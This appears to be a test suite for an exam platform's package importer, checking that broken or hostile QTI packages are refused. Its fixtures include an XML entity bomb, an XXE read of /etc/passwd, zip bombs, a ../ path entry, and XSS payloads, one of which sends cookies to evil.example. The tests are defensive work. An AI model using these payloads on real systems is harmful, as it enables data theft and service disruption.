import { randomBytes } from 'node:crypto';
import { strToU8, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, createTestApp, DEMO, loginAs, type TestApp } from './helpers.ts';
import { contentCounts, importPackage } from './content/admin-calls.ts';
import { fixturePackage, put, text, zipFiles } from './content/packages.ts';

/**
 * Issue 17, bad input: every broken package gets a clear per-item report (422) or a 4xx, never
 * a 500, and nothing of it is written.
 */
let t: TestApp;
let admin: string;
let before: Awaited<ReturnType<typeof contentCounts>>;
beforeAll(async () => {
  t = await createTestApp();
  admin = await loginAs(t.app, DEMO.admin.email, DEMO.admin.password);
  before = await contentCounts(t);
});
afterAll(async () => {
  // Nothing of any refused package was written.
  if (t) expect(await contentCounts(t)).toEqual(before);
  await t?.close();
});

async function refused(data: Buffer) {
  const res = await importPackage(t, admin, data);
  expect(res.statusCode, res.body).toBe(422);
  const body = res.json();
  expect(body.report.imported).toBe(false);
  expect(body.report.examId).toBeNull();
  return body.report.problems as Array<{ item: string; reason: string }>;
}

const BOMB = `<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<qti-assessment-item xmlns="http://www.imsglobal.org/xsd/imsqtiasi_v3p0" identifier="primes"><qti-item-body><p>&lol3;</p></qti-item-body></qti-assessment-item>`;
const EXTERNAL = `<?xml version="1.0"?>
<!DOCTYPE item [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<qti-assessment-item xmlns="http://www.imsglobal.org/xsd/imsqtiasi_v3p0" identifier="primes"><qti-item-body><p>&secret;</p></qti-item-body></qti-assessment-item>`;

describe('refused packages', () => {
  it('malformed XML: the item and the parser message', async () => {
    const problems = await refused(
      fixturePackage('qti3', (f) =>
        put(f, 'items/primes.xml', text(f, 'items/primes.xml').replace('</qti-item-body>', '')),
      ),
    );
    expect(problems).toEqual([
      { item: 'primes', reason: expect.stringMatching(/^items\/primes\.xml: Malformed XML: /) },
    ]);
  });

  it('an XML bomb (entity expansion) and an external entity are never expanded', async () => {
    for (const xml of [BOMB, EXTERNAL]) {
      const problems = await refused(fixturePackage('qti3', (f) => put(f, 'items/primes.xml', xml)));
      expect(problems).toEqual([
        {
          item: 'primes',
          reason: 'items/primes.xml: The XML declares entities (DOCTYPE <!ENTITY>), which are never expanded: refused.',
        },
      ]);
    }
  });

  it('a zip bomb: an entry compressed far beyond any real file', async () => {
    const problems = await refused(
      fixturePackage('qti3', (f) => f.set('media/zeros.png', new Uint8Array(8 * 1024 * 1024))),
    );
    expect(problems).toEqual([
      { item: 'package', reason: expect.stringContaining('"media/zeros.png" is compressed more than 100:1') },
    ]);
  });

  it('a zip bomb under 1 MB an entry: each entry and the package are ratio-checked (ADR 0190)', async () => {
    const one = await refused(fixturePackage('qti3', (f) => f.set('media/zeros.png', new Uint8Array(512 * 1024))));
    expect(one).toEqual([
      { item: 'package', reason: '"media/zeros.png" is compressed more than 100:1 (a zip bomb?).' },
    ]);
    const many = await refused(
      fixturePackage('qti3', (f) => {
        for (let i = 0; i < 200; i++) f.set(`media/zeros-${i}.png`, new Uint8Array(60 * 1024));
      }),
    );
    expect(many).toEqual([
      { item: 'package', reason: 'The package unpacks to more than 100 times its size (a zip bomb?).' },
    ]);
  });

  it('a zip with ../ paths', async () => {
    const problems = await refused(fixturePackage('qti3', (f) => put(f, '../../evil.sh', 'echo owned')));
    expect(problems).toEqual([
      { item: 'package', reason: 'The package holds "../../evil.sh": a ../ path outside the package.' },
    ]);
  });

  it('a manifest pointing at missing files, each named once', async () => {
    const problems = await refused(fixturePackage('qti3', (f) => f.delete('items/essay.xml')));
    expect(problems).toEqual([
      { item: 'essay', reason: 'The manifest names "items/essay.xml", which is not in the package.' },
    ]);
  });

  it('two interactions of one kind in an item, said as such', async () => {
    const problems = await refused(
      fixturePackage('qti22', (f) => {
        const item = text(f, 'items/primes.xml');
        const interaction = /<choiceInteraction[\s\S]*<\/choiceInteraction>/.exec(item)![0];
        put(f, 'items/primes.xml', item.replace(interaction, interaction + interaction));
      }),
    );
    expect(problems).toEqual([
      {
        item: 'primes',
        reason: '2 choiceInteractions in one item have no Invigil question type; put each in an item of its own.',
      },
    ]);
  });

  it('a test referring to an item the package lacks, named as the test’s', async () => {
    const problems = await refused(
      fixturePackage('qti3', (f) =>
        put(f, 'test.xml', text(f, 'test.xml').replace('items/essay.xml', 'items/essay2.xml')),
      ),
    );
    expect(problems).toEqual([
      { item: 'items/essay2.xml', reason: 'The test names "items/essay2.xml", which is not in the package.' },
    ]);
  });

  it('media an item refers to that the package lacks', async () => {
    const problems = await refused(fixturePackage('qti22', (f) => f.delete('media/clip.mp4')));
    expect(problems).toContainEqual({ item: 'clip', reason: '"media/clip.mp4" is referenced but not in the package.' });
  });

  it('media whose bytes are not of their extension’s type, each item with its reason (ADR 0190)', async () => {
    const problems = await refused(
      fixturePackage('qti3', (f) => {
        // a page named as a picture, a picture named as audio, a Windows program named as video
        put(f, 'media/planet.png', '<!doctype html><script>alert(document.cookie)</script>');
        f.set('media/tone.mp3', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]));
        put(f, 'media/clip.mp4', 'MZ\u0090\u0000 This program cannot be run in DOS mode.');
      }),
    );
    const wrong = (file: string, ext: string, what: string) =>
      `"${file}" is not what its name says: a .${ext} file must be ${what}, and its first bytes are not.`;
    expect(problems).toEqual(
      expect.arrayContaining([
        { item: 'planet-order', reason: wrong('media/planet.png', 'png', 'a PNG picture') },
        { item: 'red-planet', reason: wrong('media/planet.png', 'png', 'a PNG picture') },
        { item: 'tone-passage', reason: wrong('media/tone.mp3', 'mp3', 'MP3 audio') },
        { item: 'spoken', reason: wrong('media/tone.mp3', 'mp3', 'MP3 audio') },
        { item: 'clip', reason: wrong('media/clip.mp4', 'mp4', 'MP4 video') },
      ]),
    );
    expect(problems).toHaveLength(5);
  });

  it('unknown interactions, each item with its reason, every item checked', async () => {
    const problems = await refused(
      fixturePackage('qti22', (f) => {
        put(f, 'items/primes.xml', text(f, 'items/primes.xml').replaceAll('choiceInteraction', 'hotspotInteraction'));
        put(
          f,
          'items/essay.xml',
          text(f, 'items/essay.xml').replaceAll('extendedTextInteraction', 'drawingInteraction'),
        );
      }),
    );
    expect(problems).toEqual([
      { item: 'primes', reason: 'hotspotInteraction has no Invigil question type.' },
      { item: 'essay', reason: 'drawingInteraction has no Invigil question type.' },
    ]);
  });

  it('duplicate identifiers (two items, or an item and an extension item)', async () => {
    const problems = await refused(
      fixturePackage('qti3', (f) => {
        put(f, 'items/essay.xml', text(f, 'items/essay.xml').replace('identifier="essay"', 'identifier="primes"'));
        put(f, 'items/clip.xml', text(f, 'items/clip.xml').replace('identifier="clip"', 'identifier="typing"'));
      }),
    );
    expect(problems).toEqual([
      { item: 'primes', reason: 'Duplicate identifier "primes" (items/essay.xml; also items/primes.xml).' },
      {
        item: 'typing',
        reason: 'Duplicate identifier "typing" (invigil-extension.invigil.json; also items/clip.xml).',
      },
    ]);
  });

  it('script, handlers and script links in item bodies or extension HTML (attack review, ADR 0180)', async () => {
    const problems = await refused(
      fixturePackage('qti3', (f) => {
        put(
          f,
          'items/primes.xml',
          text(f, 'items/primes.xml').replace(
            '<qti-prompt>',
            '<qti-prompt><script>fetch("//evil.example/?"+document.cookie)</script><iframe src="tone.xml"/>',
          ),
        );
        const doc = JSON.parse(text(f, 'invigil-extension.invigil.json'));
        doc.items[0].prompt = '<p>Type <img src=x onerror="alert(1)"></p>';
        doc.test.thankYou = '<a href="javascript:alert(1)">Done</a>';
        put(f, 'invigil-extension.invigil.json', JSON.stringify(doc));
      }),
    );
    expect(problems).toEqual([
      { item: 'primes', reason: '<script> is not allowed in question content.' },
      { item: 'primes', reason: '<iframe> is not allowed in question content.' },
      {
        item: 'invigil-extension.invigil.json',
        reason: 'The test\'s thankYou: the link "javascript:alert(1)" (javascript:) is not allowed (on <a>).',
      },
      { item: 'typing', reason: 'The prompt: the event handler attribute onerror on <img> is not allowed.' },
    ]);
    const direct = await t.app.inject({
      method: 'POST',
      url: '/api/admin/imports/extension',
      headers: bearer(admin),
      payload: {
        format: 'invigil-extension',
        version: 1,
        test: { title: 'XSS' },
        items: [{ identifier: 's', type: 'spokenAnswer', prompt: '<svg onload=alert(1)>' }],
      },
    });
    expect(direct.statusCode).toBe(422);
    expect(direct.json().report.problems).toEqual([
      { item: 's', reason: 'The prompt: <svg> is not allowed in question content.' },
    ]);
  });

  it('data: URIs whose bytes are not of their declared type, in an item and in extension HTML (ADR 0196)', async () => {
    const html = Buffer.from('<!doctype html><script>alert(document.cookie)</script>').toString('base64');
    const uri = `data:image/png;base64,${html}`;
    const problems = await refused(
      fixturePackage('qti3', (f) => {
        put(
          f,
          'items/primes.xml',
          text(f, 'items/primes.xml').replace('<qti-prompt>', `<qti-prompt><img src="${uri}"/>`),
        );
        const doc = JSON.parse(text(f, 'invigil-extension.invigil.json'));
        doc.items[0].prompt = `<p>Type <img src="${uri}" alt="x"></p>`;
        put(f, 'invigil-extension.invigil.json', JSON.stringify(doc));
      }),
    );
    expect(problems).toEqual([
      {
        item: 'primes',
        reason: `"${uri.slice(0, 60)}" is not what it says: its data must be a PNG picture, and its first bytes are not.`,
      },
      {
        item: 'typing',
        reason: expect.stringMatching(
          /^The prompt: the data: URI "data:image\/png;base64,.*" is not a PNG picture \(on <img>\)\.$/,
        ),
      },
    ]);
  });

  it('a huge item (under the XML limit, far over what a question page should carry)', async () => {
    const problems = await refused(
      fixturePackage('qti3', (f) =>
        put(
          f,
          'items/primes.xml',
          // random words: one word repeated would be refused as compressed past 100:1 (ADR 0190)
          text(f, 'items/primes.xml').replace(
            'Select all the prime numbers.',
            randomBytes(300_000)
              .toString('hex')
              .replace(/(.{9})/g, '$1 '),
          ),
        ),
      ),
    );
    expect(problems).toEqual([
      {
        item: 'primes',
        reason: expect.stringMatching(
          /^The item is too large: \d+ characters of content; at most 500000 per question\.$/,
        ),
      },
    ]);
  });

  it('not a package at all, and a zip without a manifest', async () => {
    const neither = 'The file is neither a QTI package (zip) nor an extension document (JSON).';
    expect(await refused(Buffer.from('just some text'))).toEqual([{ item: 'package.zip', reason: neither }]);
    // a RAR or 7-Zip archive named .zip: not read as broken JSON
    expect(await refused(Buffer.from('Rar!\u001a\u0007\u0000 archive'))).toEqual([
      { item: 'package.zip', reason: neither },
    ]);
    expect(await refused(Buffer.from('{"format": "invigil-extension",'))).toEqual([
      { item: 'package.zip', reason: expect.stringMatching(/^Not valid JSON/) },
    ]);
    expect(await refused(Buffer.from(zipSync({ 'a.txt': strToU8('x') })))).toEqual([
      { item: 'package', reason: 'The package has no imsmanifest.xml at its root.' },
    ]);
    // a folder zipped with its contents: the manifest is one level down
    expect(await refused(Buffer.from(zipSync({ 'My Test/imsmanifest.xml': strToU8('<manifest/>') })))).toEqual([
      {
        item: 'package',
        reason:
          'The package has no imsmanifest.xml at its root; it is in "My Test/": zip the contents of that folder, not the folder.',
      },
    ]);
    expect(await refused(Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(100)]))).toEqual([
      { item: 'package', reason: expect.stringMatching(/^The file is not a readable zip package/) },
    ]);
  });
});

describe('refused before reading', () => {
  it('a 50 MB package is 413 (IMPORT_MAX_MB, 40 by default), whatever it holds', async () => {
    const files = new Map<string, Uint8Array>([['imsmanifest.xml', strToU8('<manifest/>')]]);
    files.set('media/big.mp4', randomBytes(50 * 1024 * 1024));
    const res = await importPackage(t, admin, zipFiles(files, 0));
    expect(res.statusCode).toBe(413);
    expect(res.json().message).toBe('The file is larger than 40 MB.');
  });

  it('no file, or not multipart: 4xx with the reason', async () => {
    const none = await t.app.inject({ method: 'POST', url: '/api/admin/imports', headers: bearer(admin), payload: {} });
    expect(none.statusCode).toBe(415);
    const res = await importPackage(t, admin, Buffer.alloc(0));
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe('The file is empty.');
  });

  it('only the super administrator may import', async () => {
    const support = await loginAs(t.app, DEMO.support.email, DEMO.support.password);
    const res = await importPackage(t, support, fixturePackage('qti3'));
    expect(res.statusCode).toBe(403);
  });
});
